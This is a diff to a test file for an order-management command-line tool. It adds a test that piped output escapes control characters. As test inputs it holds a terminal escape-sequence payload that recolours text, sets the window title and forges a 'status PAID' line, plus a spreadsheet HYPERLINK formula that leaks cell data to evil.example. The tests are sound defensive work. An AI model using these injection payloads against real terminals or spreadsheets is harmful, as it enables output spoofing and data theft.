@@ -136,6 +136,20 @@ describe.concurrent('in a pipe and for a spreadsheet', { timeout: SLOW }, () => 
     expect(lines[1]!.split('\t')[4]).toBe('line one\\nline\\ttwo \\\\ end');
   });
 
+  // Found by an outside review: `order show | cat -v` printed a memo's ESC sequences and a CR
+  // and LF as they were, so the memo drew in colour, set the window's title, and forged a line
+  // of its own. In a pipe a record's value is written as the TSV rows write theirs (\\, \t, \n,
+  // \r) and every other control character as \u followed by its code: one line per field.
+  it('piped: a record keeps each field on one line, and no control character passes through', async () => {
+    const s = await withMerchant();
+    const memo = 'hi\x1b[31mRED\x1b]0;TITLE\x07\r\nstatus  PAID \\ end\u2028x';
+    const o = await s.json<{ id: string }>(['order', 'create', '--oid', 'M-1', '--uid', 'u1', '--amount', '1', '--memo', memo]);
+    const out = await s.ok(['order', 'show', o.id]);
+    expect(out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f\u2028]/);
+    expect(out.split('\n').filter((l) => l.startsWith('status'))).toEqual(['status        PENDING_PAY']);
+    expect(out).toMatch(/^memo +hi\\u001b\[31mRED\\u001b\]0;TITLE\\u0007\\r\\nstatus  PAID \\\\ end\\u2028x$/m);
+  });
+
   it('--format csv: RFC 4180 quoting, whole values, and no cell that a spreadsheet would run as a formula', async () => {
     const s = await withMerchant();
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
